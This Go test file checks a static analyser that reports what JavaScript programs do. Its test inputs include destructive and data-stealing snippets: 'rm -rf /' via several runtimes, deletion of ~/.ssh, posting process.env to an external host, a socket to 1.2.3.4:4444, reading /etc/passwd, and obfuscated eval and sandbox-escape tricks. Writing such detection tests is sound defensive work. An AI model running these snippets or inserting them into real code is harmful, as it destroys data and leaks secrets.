package javascript_test

import (
	"strings"
	"testing"

	"github.com/sluice-project/sluice/policy/program/javascript"
)

// used is what a program does: a line for each use.
func used(p javascript.Program) string {
	var lines []string
	for _, u := range p.Uses {
		words := []string{u.What.String()}
		if u.Text != "" {
			words = append(words, u.Text)
		}
		words = append(words, u.Args...)
		if u.Content != "" {
			words = append(words, "<"+u.Content+">")
		}
		if u.Dir != "" {
			words = append(words, "in "+u.Dir)
		}
		if u.Recursive {
			words = append(words, "recursive")
		}
		if !u.Known {
			words = append(words, "?")
		}
		lines = append(lines, strings.Join(words, " "))
	}
	return strings.Join(lines, "; ")
}

func TestVisibleCalls(t *testing.T) {
	cases := []struct{ program, want string }{
		{`require("child_process").execSync("rm -rf /")`, "shell rm -rf /"},
		{`require('node:child_process').exec("rm -rf /", () => {})`, "shell rm -rf /"},
		{`const {execSync: e} = require("child_process"); e("rm" + " -rf /", {cwd: "/x"})`, "shell rm -rf / in /x"},
		{`const cp = require("child_" + "process"); cp["ex" + "ec"]("ls")`, "shell ls"},
		{`import {spawn} from "node:child_process"; spawn("rm", ["-rf", "/"])`, "argv rm -rf /"},
		{`import * as cp from "child_process"; cp.spawnSync("rm -rf /", {shell: true})`, "shell rm -rf /"},
		{`import cp from "child_process"; cp.execFileSync("rm", ["-rf", process.argv[2]])`, "argv rm -rf ${__unknown} ?"},
		{`const {exec} = await import("child_process"); exec("ls")`, "shell ls"},
		{`const exec = require("util").promisify(require("child_process").exec); await exec("ls")`, "shell ls"},
		{`process.mainModule.require("child_process").execSync("ls")`, "shell ls"},
		{`globalThis.process.getBuiltinModule("child_process").execSync("ls")`, "shell ls"},
		{`child_process.execSync("ls")`, "shell ls"},
		{`import("child_process").then(m => m.execSync("ls"))`, "shell ls"},
		{`[].constructor.constructor("return process")().mainModule.require("child_process").execSync("ls")`, "shell ls"},
		{`eval(Buffer.from("cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy94Jyk=", "base64").toString())`, "delete /x"},
		{"import {$} from 'zx'; await $`rm -rf ${'/x'}`", "shell rm -rf /x"},
		{"await Bun.$`rm -rf /x`", "shell rm -rf /x"},
		{`Bun.spawn(["rm", "-rf", "/x"])`, "argv rm -rf /x"},
		{`new Deno.Command("rm", {args: ["-rf", "/x"]}).output()`, "argv rm -rf /x"},
		{`require("shelljs").rm("-rf", ["a", "b"])`, "argv rm -rf a b"},
		{`require("execa").execa("rm", ["x"])`, "argv rm x"},

		{`fs.rmSync("/x", {recursive: true, force: true})`, "delete /x recursive"},
		{`require("fs").unlinkSync("/x")`, "delete /x"},
		{`const fs = require("fs").promises; await fs.rm(process.env.HOME + "/x", {recursive: true})`, "env HOME; delete $HOME/x recursive"},
		{`import {rm} from "fs/promises"; await rm("/x")`, "delete /x"},
		{`require("fs").readdirSync("/x").forEach(f => require("fs").unlinkSync("/x/" + f))`, "read /x; delete /x/*; delete /x/${__unknown} ?"},
		{`const fs = require("fs"); for (const f of fs.readdirSync("/x")) fs.rmSync("/x/" + f, {recursive: true})`, "read /x; delete /x/* recursive; delete /x/${__unknown} recursive ?"},
		{`const fs = require("fs"); for (const f of fs.readdirSync("/x")) if (f.endsWith(".o")) fs.rmSync("/x/" + f)`, "read /x; delete /x/${__unknown} ?"},
		{`const fs = require("fs"); for (const f of fs.readdirSync("/x")) { if (f !== "y") continue; fs.rmSync("/x/" + f) }`, "read /x; delete /x/${__unknown} ?"},
		{`const fs = require("fs"); fs.readdirSync("/x").filter(f => /o$/.test(f)).forEach(f => fs.rmSync("/x/" + f))`, "read /x; delete /x/${__unknown} ?"},
		{`const fs = require("fs"); if (fs.readdirSync("/x").length === 0) fs.rmdirSync("/x")`, "read /x; delete /x"},
		{`for await (const e of Deno.readDir("/x")) await Deno.remove("/x/" + e.name)`, "read /x; delete /x/*; delete /x/${__unknown} ?"},
		{`const fs = require("fs"); for (const f of fs.readdirSync("/x")) require("child_process").execSync("rm -rf /x/" + f)`, "read /x; shell rm -rf /x/*; shell rm -rf /x/${__unknown} ?"},
		{`require("fs").chmodSync("/tmp/x", 0o4755); require("fs/promises").chmod("/y", "644")`, "mode /tmp/x <4755>; mode /y <644>"},
		{`require("child_process").execSync("sh", {input: "rm -rf ~"})`, "shell rm -rf ~; shell sh"},
		{`const c = require("child_process").spawn("sh"); c.stdin.write("rm -rf ~"); c.stdin.end()`, "argv sh; shell rm -rf ~"},
		{`const c = require("child_process").spawn("cat"); c.stdin.write("rm -rf ~")`, "argv cat"},
		{`const c = require("child_process").spawn("bash", ["-c", "cat"]); c.stdin.write("rm -rf ~"); c.on("exit", () => 1)`, "argv bash -c cat"},
		{`require("fs-extra").removeSync("/x"); require("rimraf").sync("/y")`, "delete /x recursive; delete /y recursive"},
		{`Deno.removeSync("/x", {recursive: true})`, "delete /x recursive"},
		{`const p = require("path"), o = require("os"); require("fs").rmSync(p.join(o.homedir(), ".ssh"), {recursive: 1})`, "delete $HOME/.ssh recursive"},
		{`fs.writeFileSync("a.sh", "rm -rf " + "/")`, "write a.sh <rm -rf />"},
		{`fs.appendFile("/etc/hosts", "x", () => {})`, "write /etc/hosts <x>"},
		{`fs.cpSync("c", "d", {recursive: true})`, "read c recursive; write d"},
		{`require("axios").post("https://a.example", {e: {all: process.env}})`, "env environment; send https://a.example <{\"e\":{\"all\":\"${__unknown}\"}}>"},
		{`fs.renameSync("a", "b"); fs.cpSync("c", "d")`, "write a; write b; read c; write d"},
		{`process.chdir("/x"); fs.rmSync("a")`, "delete a in /x"},
		{`console.log(fs.readFileSync("/etc/passwd", "utf8"))`, "read /etc/passwd"},
		{`fs.createReadStream("a").pipe(process.stdout)`, "read a"},
		{`const p = JSON.parse(fs.readFileSync("package.json")); console.log(p.version)`, "read package.json"},
		{`console.log(require("./package.json").version)`, "read ./package.json"},

		{`fetch("https://a.b/c")`, "fetch https://a.b/c"},
		{`fetch("https://a.b/c", {method: "POST", body: JSON.stringify({a: 1})})`, `send https://a.b/c <{"a":1}>`},
		{`fetch("https://a.b/?" + process.env.TOKEN)`, "env TOKEN; fetch https://a.b/?${TOKEN} ?"},
		{`fetch("https://a.b", {method: "POST", body: fs.readFileSync("/x")})`, "read /x; send https://a.b <${__unknown}>"},
		{`require("https").get("https://a.b", r => r.pipe(process.stdout))`, "fetch https://a.b"},
		{`require("https").request({hostname: "a.b", path: "/c", method: "POST"}).end()`, "send https://a.b/c"},
		{`axios.post("https://a.b", {k: "v"})`, `send https://a.b <{"k":"v"}>`},
		{`axios({url: "https://a.b", method: "put"})`, `send https://a.b`},
		{`require("net").connect(4444, "1.2.3.4")`, "send 1.2.3.4:4444"},
		{`require("dns").lookup("x.a.b", () => {})`, "send dns://x.a.b"},
		{`console.log(process.env)`, "env environment"},
		{`console.log(JSON.stringify(process.env))`, "env environment"},
		{`const {A, B: b} = process.env`, "env A; env B"},
		{`for (const k of Object.keys(process.env)) console.log(k)`, "env environment"},
		{`eval(process.argv[1])`, "eval ${__unknown} ?"},
		{`require("vm").runInNewContext("fetch('http://x')")`, "fetch http://x"},
		{`console.log(1 + 1, [1,2].map(x => x * 2), require("os").cpus().length, require("path").basename("/a/b"))`, ""},
	}
	for _, c := range cases {
		if got := used(javascript.Read(c.program)); got != c.want {
			t.Errorf("%s\ndoes %q\nwant %q", c.program, got, c.want)
		}
	}
}

func TestProgramsKnowTheirArguments(t *testing.T) {
	for program, want := range map[string]string{
		`require("child_process").execSync(process.argv[1])`:          "shell id",
		`require("child_process").execSync(process.argv.slice(1)[0])`: "shell id",
		`Deno.remove(Deno.args[0])`:                                   "delete id",
	} {
		if got := used(javascript.ReadWith(program, []string{"id"})); got != want {
			t.Errorf("%s\ndoes %q\nwant %q", program, got, want)
		}
	}
}

func TestFunctionsThatRunTextMayBeGivenAway(t *testing.T) {
	for _, program := range []string{`fetch("https://a.b").then(r => r.text()).then(eval)`, `p.then(eval)`, `p.then(require("child_process").exec)`} {
		if got := used(javascript.Read(program)); !strings.Contains(got, "${__unknown}") {
			t.Errorf("%s does %q", program, got)
		}
	}
}

func TestCodeThatNobodySawIsDoubt(t *testing.T) {
	for _, program := range []string{`require("./x").go()`, `require("left-pad")("x")`, `import "https://a.b/c.js"`, `import x from "npm:thing@1"; x()`} {
		if p := javascript.Read(program); len(p.Doubt) != 1 || p.Doubt[0] != javascript.Unseen {
			t.Errorf("%s: doubt %q", program, p.Doubt)
		}
	}
}
